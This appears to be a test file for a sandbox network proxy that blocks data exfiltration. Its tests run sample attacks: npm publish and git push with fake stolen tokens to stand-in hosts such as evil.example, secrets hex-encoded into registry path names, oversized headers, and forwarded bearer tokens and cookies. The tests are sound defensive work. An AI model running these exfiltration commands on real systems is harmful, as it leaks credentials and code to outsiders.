import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { egressWorldOfTest as world } from "../support/egress-world.ts";
import { sampleRepository, type SampleRepository } from "../support/sample-repository.ts";
import { startSandbox } from "../support/start-sandbox.ts";

let sample: SampleRepository;
let sandbox: Sandbox;

beforeAll(async () => {
  sample = sampleRepository();
  sandbox = await startSandbox(sample, {
    limits: { memoryMb: 512, cpus: 2, pids: 128, diskMb: 256, minutes: 5 },
  });
});
afterAll(async () => {
  await sandbox?.[Symbol.asyncDispose]();
  sample?.[Symbol.dispose]();
});

test("npm publish is refused, with a stolen token too", { timeout: 60_000 }, async () => {
  const name = `handback-stolen-${randomBytes(8).toString("hex")}`;
  const { exitCode, preview } = await sandbox.exec(
    [
      `mkdir /tmp/p && cd /tmp/p && echo '{"name":"${name}","version":"1.0.0"}' > package.json`,
      "echo '//registry.npmjs.org/:_authToken=npm_stolen' > .npmrc",
      "npm publish --access public 2>&1 | grep -v notice",
      "exit ${PIPESTATUS[0]}",
    ].join("\n"),
    { timeoutMs: 50_000 },
  );
  expect(exitCode).not.toBe(0);
  expect(preview).toMatch(/403 Forbidden \(Handback: the method is not allowed\) - PUT/);
  const puts = sandbox.requests().filter(({ path }) => path === `/${name}`);
  expect(puts).toContainEqual(expect.objectContaining({ method: "PUT", status: 403, refusedBy: "method" }));
  expect(puts.filter(({ method, refusedBy }) => method !== "GET" && refusedBy === null)).toEqual([]);
});

test("git push goes nowhere: neither to GitHub, nor anywhere else, nor through an allowed host", async () => {
  const { preview } = await sandbox.exec(
    [
      "git push https://x:ghp_stolen@github.com/evil/loot HEAD:main 2>&1",
      "git push https://evil.example/loot HEAD:main 2>&1",
      "git push ssh://git@github.com/evil/loot HEAD:main 2>&1",
      "git push https://registry.npmjs.org/loot.git HEAD:main 2>&1",
      "for service in git-receive-pack git-upload-pack; do",
      "  curl -s -o /dev/null -w '%{http_code}\\n' -d 0000 https://registry.npmjs.org/loot.git/$service; done",
    ].join("\n"),
    { timeoutMs: 30_000 },
  );
  expect(
    preview.match(/CONNECT tunnel failed, response 403|Received HTTP code 403 from proxy/g),
  ).toHaveLength(2);
  expect(preview).toMatch(/\n403\n403\n$/);
  expect((await sandbox.exec("git ls-remote https://github.com/a/b 2>&1")).exitCode).not.toBe(0);
});

test("npm audit, which would send what is installed, fails softly", async () => {
  const { exitCode, preview } = await sandbox.exec(
    "mkdir /tmp/q && cd /tmp/q && npm init -y >/dev/null && npm install --audit=true is-number@7 2>&1",
    { timeoutMs: 30_000 },
  );
  expect(exitCode, preview).toBe(0);
  expect(preview).toContain("added 1 package");
  expect(sandbox.requests()).toContainEqual(
    expect.objectContaining({
      method: "POST",
      path: "/-/npm/v1/security/advisories/bulk",
      refusedBy: "method",
    }),
  );
});

test("500 package names that do not exist close the registry for this sandbox, in plain words", async () => {
  const { ask, tls, seen, proxy } = await world();
  let refused = 0;
  let words = "";
  for (let n = 0; n < 500; n += 1) {
    const stolen = Buffer.from(`secret ${n}`).toString("hex");
    const { status, body } = await ask(`https://registry.example${tls}/missing-${stolen}`);
    if (status === 429) refused += 1;
    if (status === 429) words = body;
  }
  expect(seen.reduce((sum, { path }) => sum + path.length, 0)).toBeLessThan(8_100);
  expect(refused).toBe(500 - seen.length);
  expect(refused).toBeGreaterThan(150);
  expect(words).toMatch(/registry\.example did not know so many things .* look for the mistake in the names/);
  expect(proxy.requests().filter(({ refusedBy }) => refusedBy === "unknown_names")).toHaveLength(refused);
  // Another host is open still, and so is the registry for another sandbox.
  expect((await ask(`https://docs.example${tls}/`)).status).toBe(200);
});

test.each([
  ["below one another", (word: string, before: string) => `${before}/${word}`],
  ["beside one another", (word: string) => `/missing/${word}`],
  ["as Go's modules", (word: string) => `/missing/${word}/@v/list`],
  ["in a query", (word: string) => `/missing?q=${word}`],
])("names %s that do not exist carry no more out", async (_how, pathFor) => {
  const { ask, plain, seen } = await world();
  let before = "/missing";
  for (let n = 0; n < 500; n += 1) {
    const path = pathFor(randomBytes(16).toString("hex"), before);
    if (path.length < 1_500) before = path;
    await ask(`http://registry.example${plain}${path}`);
  }
  expect(seen.length).toBeLessThan(260);
});

test("the same name asked for again is no new one", async () => {
  const { ask, plain } = await world({ caps: { unknownCharacters: 20 } });
  for (let n = 0; n < 20; n += 1)
    expect((await ask(`http://registry.example${plain}/missing`)).status).toBe(404);
});

test("addresses carry little: one is short, and all together are bounded", async () => {
  const { ask, tls, seen } = await world({ caps: { characters: 10_000 } });
  const address = `https://registry.example${tls}/`;
  expect(await ask(`${address}?${"s".repeat(2_001)}`)).toMatchObject({ status: 414 });
  for (let n = 0; n < 10; n += 1) await ask(`${address}?${"s".repeat(1_500)}`);
  expect(seen).toHaveLength(6);
  expect(await ask(`${address}?${"s".repeat(1_500)}`)).toMatchObject({
    status: 429,
    body: expect.stringContaining("its way out is closed"),
  });
});

test("a registry's log gets no more by headers that change with each request", async () => {
  const { ask, plain, seen } = await world({ caps: { characters: 20_000 } });
  const url = `http://registry.example${plain}/ms`;
  // What stays the same, as clients' headers do, carries a message once.
  for (let n = 0; n < 40; n += 1) await ask(url, { headers: { "user-agent": "u".repeat(900) } });
  expect(seen).toHaveLength(40);
  for (let n = 0; n < 40; n += 1) {
    const stolen = `${n}`.padEnd(900, "s");
    await ask(url, { headers: { "user-agent": stolen, "if-none-match": stolen, accept: `${stolen}x` } });
  }
  const carried = seen
    .flatMap(({ headers }) => Object.values(headers))
    .filter((value) => /s{800}/.test(String(value)));
  expect(carried.length * 900).toBeLessThan(40_000);
  expect(seen.length).toBeLessThan(55);
});

test("requests are bounded", async () => {
  const { ask, plain, seen, proxy } = await world({ caps: { requests: 10 } });
  for (let n = 0; n < 15; n += 1) await ask(`http://registry.example${plain}/ms`);
  expect(seen).toHaveLength(10);
  expect(proxy.requests().filter(({ refusedBy }) => refusedBy === "too_much")).toHaveLength(5);
});

test("a registry gets no body, no token, no cookie and no header of one's own", async () => {
  const { ask, tls, seen } = await world();
  const headers = {
    authorization: "Bearer npm_stolen",
    cookie: "a=b",
    "x-stolen": "c",
    referer: "https://evil.example",
  };
  await ask(`https://registry.example${tls}/ms`, { headers });
  expect(JSON.stringify(seen)).not.toMatch(/stolen|evil|a=b/);
  expect(
    await ask(`https://registry.example${tls}/ms`, {
      headers: { "transfer-encoding": "chunked" },
      body: "stolen",
    }),
  ).toMatchObject({ status: 403 });
  expect(seen).toHaveLength(1);
});
